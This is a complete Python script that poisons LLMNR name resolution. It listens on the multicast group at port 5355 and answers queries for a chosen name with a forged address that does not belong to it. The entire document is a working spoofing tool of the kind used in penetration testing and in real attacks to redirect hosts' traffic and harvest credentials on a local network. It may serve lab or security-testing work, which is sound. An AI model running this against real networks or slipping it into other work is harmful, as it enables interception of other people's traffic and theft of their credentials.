#!/usr/bin/python3
"""Answers LLMNR questions (RFC 4795) for a name with an address that does not belong to it: llmnr-poison.py NAME ADDRESS"""
import os
import socket
import struct
import sys

name, address = sys.argv[1].encode(), socket.inet_aton(sys.argv[2])
open("/run/llmnr-poison.pid", "w").write(str(os.getpid()))
server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
server.bind(("", 5355))
server.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton("224.0.0.252") + address)
while True:
    question, asker = server.recvfrom(512)
    if name.lower() not in question.lower():
        continue
    head = question[:2] + struct.pack(">5H", 0x8000, 1, 1, 0, 0)
    end = question.index(b"\0", 12) + 5
    answer = question[12 : end - 4] + struct.pack(">HHIH", 1, 1, 30, 4) + address
    server.sendto(head + question[12:end] + answer, asker)
